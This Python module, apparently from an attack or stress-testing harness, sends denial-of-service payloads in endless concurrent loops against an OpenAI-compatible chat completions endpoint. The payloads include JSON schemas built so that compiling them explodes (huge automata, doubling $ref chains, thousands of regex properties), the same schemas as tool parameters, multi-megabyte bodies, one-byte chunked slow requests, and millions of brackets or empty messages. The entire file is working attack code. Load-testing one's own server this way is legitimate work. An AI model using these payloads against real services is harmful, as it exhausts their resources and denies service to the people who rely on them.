"""A viewer's questions that cost far more than they weigh: forms, tools, texts, numbers of parts."""

from typing import Any

from attacks.target import Target, chat, forever, pour, user

JSON = {"Content-Type": "application/json"}
QUESTION = "What do you see?"


def exploding(number: int, width: int = 29) -> dict[str, Any]:
    """Two kilobytes whose automaton has as many states as the least common multiple of its numbers; no two alike."""
    steps = range(1 + number % 7, width + 1 + number % 7)
    return {"allOf": [{"anyOf": [{"type": "integer", "multipleOf": step}, {"type": "string"}]} for step in steps]}


def doubling(number: int, depth: int = 40) -> dict[str, Any]:
    """Each definition holds the one below it twice."""
    names: dict[str, Any] = {
        f"d{i}": {"type": "array", "prefixItems": [{"$ref": f"#/$defs/d{i + 1}"}] * 2} for i in range(depth)
    }
    names[f"d{depth}"] = {"const": number}
    return {"$defs": names, "$ref": "#/$defs/d0"}


def wide(number: int) -> dict[str, Any]:
    """Thousands of properties, each with a pattern and a length."""
    each = {"type": "string", "pattern": "^(a|b|ab)*c{1,900}$", "minLength": 3, "maxLength": 50_000}
    return {"type": "object", "properties": {f"p{number}_{i}": each for i in range(3000)}}


SCHEMAS = (exploding, doubling, wide)


async def schemas(target: Target) -> None:
    """Forms of an answer whose compiling takes hours."""
    async with target.client() as client:

        async def act(number: int) -> None:
            schema = SCHEMAS[number % len(SCHEMAS)](number)
            form = {"type": "json_schema", "json_schema": {"name": "x", "schema": schema}}
            await client.post("/v1/chat/completions", content=chat(user(QUESTION), response_format=form), headers=JSON)

        await forever(14, act)


async def tools(target: Target) -> None:
    """The same as a tool's parameters."""
    async with target.client() as client:

        async def act(number: int) -> None:
            schema = {"type": "object", "properties": {"x": SCHEMAS[number % 2](number)}, "required": ["x"]}
            tool = {"type": "function", "function": {"name": f"f{number}", "parameters": schema}}
            await client.post(
                "/v1/chat/completions", content=chat(user(QUESTION), tools=[tool], tool_choice="required"), headers=JSON
            )

        await forever(14, act)


async def texts(target: Target) -> None:
    """Eight megabytes in 240 parts, each of them short enough."""
    body = chat(user([{"type": "text", "text": "why " * 8000} for _ in range(240)]))
    async with target.client() as client:
        await forever(8, lambda _: client.post("/v1/chat/completions", content=body, headers=JSON))


async def crumbs(target: Target) -> None:
    """Bodies that come in chunks of one byte."""
    head = (
        "POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n"
        f"Content-Type: application/json\r\nAuthorization: Bearer {target.token}\r\n\r\n"
    ).encode()

    await forever(8, lambda _: pour(target, head, b"1\r\n \r\n" * 10_000, 2000))


async def messages(target: Target) -> None:
    """A hundred thousand empty messages; and as many parts, and brackets."""
    bodies = (
        chat([{"role": "user", "content": ""}] * 100_000),
        chat(user([{"type": "text", "text": ""}] * 100_000)),
        b'{"model":"lobby","messages":' + b"[" * 4_000_000,
        chat(user(QUESTION), stop=["x"] * 500_000),
        chat(user(QUESTION), metadata={f"k{i}": "v" for i in range(200_000)}),
    )
    async with target.client() as client:
        await forever(
            6, lambda number: client.post("/v1/chat/completions", content=bodies[number % len(bodies)], headers=JSON)
        )
